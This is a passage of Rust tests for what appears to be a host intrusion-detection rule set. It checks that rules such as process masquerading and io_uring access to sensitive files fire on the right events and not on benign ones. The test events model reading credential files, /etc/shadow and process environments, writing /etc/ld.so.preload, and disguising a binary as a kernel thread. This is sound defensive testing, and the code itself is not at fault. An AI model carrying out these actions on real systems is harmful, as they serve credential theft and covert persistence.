    let mut own = by(read("/proc/77/environ"), "python3");
    if let Body::File(file) = &mut own.body {
        file.self_path = Some("/proc/self/environ".into());
    }
    assert!(ids(&set, &own).is_empty());
    // The workload's SDK reading its credentials, a system daemon in its own place.
    let sdk = workload(by(read("/root/.aws/credentials"), "python3"), true, &[SHIM]);
    assert!(ids(&set, &sdk).is_empty());
    let sshd = workload(
        by(
            exec("/usr/sbin/sshd", &["/usr/sbin/sshd", "-D"], &[]),
            "sshd",
        ),
        true,
        &[SHIM],
    );
    assert!(ids(&set, &sshd).is_empty());
    // `[`, the test program, is not a bracketed kernel thread's name; `[kthreadd]` is.
    let test = typed("/usr/bin/[", &["[", "-f", "/tmp/ready", "]"]);
    assert!(!ids(&set, &test).contains(&"process-masquerading".to_owned()));
    let thread = typed("/tmp/[kthreadd]", &["[kthreadd]"]);
    assert!(ids(&set, &thread).contains(&"process-masquerading".to_owned()));
    // Xvfb's lock file.
    assert!(ids(&set, &by(write("/tmp/.X99-lock"), "Xvfb")).is_empty());
}

/// The README's table of default rules lists every rule with its weight, and nothing else.
#[test]
fn the_readme_lists_every_default_rule_with_its_weight() {
    const README: &str = include_str!("../../../../README.md");
    let start = README
        .find("### Default rules")
        .expect("README has the table");
    let section = &README[start..];
    let section = &section[..section[4..].find("\n### ").map_or(section.len(), |i| i + 4)];
    let listed: Vec<(String, f64)> = section
        .lines()
        .filter_map(|line| {
            let mut cells = line.split('|').map(str::trim).skip(1);
            let id = cells.next()?.strip_prefix('`')?.strip_suffix('`')?;
            let weight = cells.next()?.parse().ok()?;
            Some((id.to_owned(), weight))
        })
        .collect();
    let set = RuleSet::defaults().unwrap();
    let defaults: Vec<(String, f64)> = set
        .rules()
        .iter()
        .map(|r| (r.meta().id.clone(), r.meta().weight))
        .collect();
    for rule in &defaults {
        assert!(listed.contains(rule), "the README does not list {rule:?}");
    }
    for rule in &listed {
        assert!(
            defaults.contains(rule),
            "the README lists {rule:?}, not a default rule"
        );
    }
}

/// `e` as the io_uring program reports it: submitted through a ring.
fn through_ring(mut e: Event) -> Event {
    if let Body::File(file) = &mut e.body {
        file.io_uring = true;
    }
    e
}

#[test]
fn sensitive_files_opened_through_an_io_uring_ring_alert_and_others_do_not() {
    let (ids, decision) = score(&[through_ring(write("/etc/ld.so.preload"))]);
    assert!(
        ids.iter().any(|id| id == "io-uring-sensitive-file"),
        "{ids:?}"
    );
    assert!(decision >= Decision::Alert, "{decision:?}");
    let (ids, _) = score(&[through_ring(read("/etc/shadow"))]);
    assert!(
        ids.iter().any(|id| id == "io-uring-sensitive-file"),
        "{ids:?}"
    );
    // The same opens made by system calls, and a ring's write of a plain file, do not.
    let (ids, _) = score(&[write("/etc/ld.so.preload"), read("/etc/shadow")]);
    assert!(
        !ids.iter().any(|id| id == "io-uring-sensitive-file"),
        "{ids:?}"
    );
    let mut plain = through_ring(write("/tmp/data"));
    if let Body::File(file) = &mut plain.body {
        file.sensitive = false;
    }
    let (ids, _) = score(&[plain]);
    assert!(
        !ids.iter().any(|id| id == "io-uring-sensitive-file"),
        "{ids:?}"
    );
}
